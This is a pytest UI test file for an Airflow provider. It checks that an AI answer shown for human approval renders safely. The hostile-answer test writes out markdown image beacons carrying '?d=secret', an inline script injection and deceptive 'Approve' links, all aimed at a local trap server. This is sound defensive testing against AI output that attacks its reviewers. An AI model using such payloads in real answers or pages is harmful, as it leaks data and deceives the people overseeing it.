"""A person reviews Candela's answer on Airflow's Required Actions page, in a real browser.

``airflow dags test`` runs a reviewed DAG (``require_approval=True``) over the UI server's home and database,
against the emulator; headless Debian Chromium logs in, opens Required Actions, finds the review with
Candela's answer rendered (the prompt, the answer's fields) and presses Approve; the run then finishes, and
the downstream task receives the answer.  Screenshots land in tests/ui/output/<test>/.
"""

from __future__ import annotations

import http.server
import json
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Any, ClassVar, cast

import pytest
from airflow_ui import AirflowServer, wait_for

from airflow_provider_candela.testing import CandelaEmulator
from airflow_provider_candela.testing._reviewer import Reviewer, start_airflow, stop_process_group

if TYPE_CHECKING:
    from playwright.sync_api import Page

pytestmark = pytest.mark.ui
DAG_ID = "candela_ui_review"
PROMPT = "Summarise the changed positions"

DAG_FILE = f"""
from datetime import datetime

from airflow.providers.common.compat.sdk import DAG, task
from pydantic import BaseModel

from airflow_provider_candela.operators.sessions import CandelaSubmitPipelinePromptOperator


class Summary(BaseModel):
    answer: str
    word_count: int


with DAG({DAG_ID!r}, schedule=None, start_date=datetime(2026, 1, 1), catchup=False) as dag:
    summarise = CandelaSubmitPipelinePromptOperator(
        task_id="summarise",
        candela_conn_id="candela_ui_review",
        app="default/demo-pipeline",
        model="default/demo-model",
        prompt={PROMPT!r},
        output_type=Summary,
        require_approval=True,
    )

    @task
    def send(summary: dict) -> None:
        print("SENT:", summary["answer"])

    send(summarise.output)
"""


def test_required_actions_page_shows_the_answer_and_approve_finishes_the_run(
    page: Page, airflow_server: AirflowServer, candela_emulator: CandelaEmulator, ui_output_dir: Path
) -> None:
    from playwright.sync_api import expect

    candela_emulator.configure(slot_startup_seconds=0)
    dags = airflow_server.home / "dags"
    dags.mkdir(exist_ok=True)
    (dags / f"{DAG_ID}.py").write_text(DAG_FILE)
    env = {**airflow_server.env, "AIRFLOW_CONN_CANDELA_UI_REVIEW": candela_emulator.connection_json()}
    log = ui_output_dir / "dags-test.log"
    run = start_airflow(["dags", "test", DAG_ID], env, log)
    try:
        reviewer = Reviewer(airflow_server.url, airflow_server.username, airflow_server.password)
        review = reviewer.wait_for("summarise", dag_id=DAG_ID, timeout=180, alive=lambda: run.poll() is None)
        assert candela_emulator.stats()["running_sessions"][candela_emulator.username] is None

        page.goto(f"{airflow_server.url}/required_actions")
        page.get_by_text(review["subject"]).first.click()
        expect(page.get_by_text("Processed 4 words: Summarise the changed positions").first).to_be_visible()
        expect(page.get_by_text(PROMPT).first).to_be_visible()
        expect(page.get_by_text("word_count").first).to_be_visible()
        page.screenshot(path=str(ui_output_dir / "review.png"), full_page=True)

        page.get_by_role("button", name="Approve").click()
        assert wait_for(lambda: run.poll() is not None, 180, "airflow dags test to finish") is not None
        output = log.read_text(errors="replace")
        assert run.returncode == 0, output[-4000:]
        assert "SENT: Processed 4 words: Summarise the changed positions" in output
        detail = reviewer.detail(DAG_ID, review["task_instance"]["dag_run_id"], "summarise")
        assert detail["chosen_options"] == ["Approve"]
        assert detail["responded_by_user"]["name"] == airflow_server.username
        page.screenshot(path=str(ui_output_dir / "approved.png"), full_page=True)
    finally:
        stop_process_group(run)
        (dags / f"{DAG_ID}.py").unlink(missing_ok=True)


# ------------------------------------------------------------------------------------------------
# a hostile answer: shown as text, nothing fetched from another host

HOSTILE_DAG_ID = "candela_ui_hostile_review"

HOSTILE_DAG_FILE = """
from datetime import datetime

from airflow.providers.common.compat.sdk import DAG

from airflow_provider_candela.operators.sessions import CandelaSubmitAgentPromptOperator

with DAG({dag_id!r}, schedule=None, start_date=datetime(2026, 1, 1), catchup=False) as dag:
    CandelaSubmitAgentPromptOperator(
        task_id="ask",
        candela_conn_id="candela_ui_hostile",
        app="default/demo-agent",
        model="default/demo-model",
        prompt={prompt!r},
        require_approval=True,
    )
"""


class _Trap(http.server.BaseHTTPRequestHandler):
    """Another host (a loopback port of its own): records every request a review makes the browser send."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, format: str, *args: Any) -> None:
        pass


def _hostile(trap: str) -> str:
    return "\n".join(
        [
            f"Looks fine ![pixel]({trap}/pixel.png?d=secret) and [Approve]({trap}/approve)",
            f'<img src="{trap}/html.png?d=secret"> <script>document.title="owned"</script>',
            f"[Approve][r] <{trap}/auto>",
            "",
            f"[r]: {trap}/ref",
            "```",
            f"![in a fence]({trap}/fence.png)",
        ]
    )


def test_a_hostile_answer_is_shown_as_text_and_fetches_nothing_from_another_host(
    page: Page, airflow_server: AirflowServer, ui_output_dir: Path
) -> None:
    from playwright.sync_api import Request, expect

    _Trap.seen.clear()
    trap_server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Trap)
    threading.Thread(target=trap_server.serve_forever, daemon=True).start()
    trap_port = str(trap_server.server_address[1])
    trap = f"http://127.0.0.1:{trap_port}"
    hostile = _hostile(trap)
    table = "name,note\n" + f'"![cell]({trap}/cell.png)","<img src={trap}/cell2.png>"\n'
    events = [
        {"event_type": "chat", "content": hostile},
        {"event_type": "result", "content": json.dumps({"content_type": "table", "content": {"data": table}})},
    ]
    catalog = {"responses": [{"pattern": "(?i)hostile", "events": events}]}
    dags = airflow_server.home / "dags"
    dags.mkdir(exist_ok=True)
    prompt = f"Check the hostile note ![p]({trap}/prompt.png)"
    (dags / f"{HOSTILE_DAG_ID}.py").write_text(HOSTILE_DAG_FILE.format(dag_id=HOSTILE_DAG_ID, prompt=prompt))
    requests: list[str] = []
    page.on("request", lambda request: requests.append(cast("Request", request).url))
    run = None
    try:
        with CandelaEmulator(catalog=catalog, slot_startup_seconds=0) as candela:
            env = {**airflow_server.env, "AIRFLOW_CONN_CANDELA_UI_HOSTILE": candela.connection_json()}
            run = start_airflow(["dags", "test", HOSTILE_DAG_ID], env, ui_output_dir / "dags-test.log")
            reviewer = Reviewer(airflow_server.url, airflow_server.username, airflow_server.password)
            review = reviewer.wait_for("ask", dag_id=HOSTILE_DAG_ID, timeout=180, alive=lambda: run.poll() is None)

            page.goto(f"{airflow_server.url}/required_actions")
            page.get_by_text(review["subject"]).first.click()
            for text in (f"[Approve]({trap}/approve)", '<script>document.title="owned"</script>', "![cell]("):
                expect(page.get_by_text(text, exact=False).first).to_be_visible()
            expect(page.get_by_text(f"![in a fence]({trap}/fence.png)").first).to_be_visible()
            page.screenshot(path=str(ui_output_dir / "hostile-review.png"), full_page=True)

            assert page.locator(f"img[src*='{trap}']").count() == 0, "no image of the answer in the page"
            # a bare address may become a link (remark-gfm), showing exactly where it goes
            links = page.eval_on_selector_all("a[href]", "els => els.map(e => [e.href, e.textContent])")
            hiding = [(href, text) for href, text in links if trap_port in href and text != href]
            assert not hiding, f"a link whose text hides its target: {hiding}"
            assert page.title() != "owned"
            page.get_by_role("button", name="Approve").click()
            assert wait_for(lambda: run.poll() is not None, 180, "airflow dags test to finish") is not None
            assert run.returncode == 0
        assert not _Trap.seen, f"the review made the browser fetch {_Trap.seen}"
        others = [url for url in requests if not url.startswith((airflow_server.url, "data:", "blob:"))]
        assert not others, f"requests left for another host: {others}"
    finally:
        if run is not None:
            stop_process_group(run)
        trap_server.shutdown()
        trap_server.server_close()
        (dags / f"{HOSTILE_DAG_ID}.py").unlink(missing_ok=True)
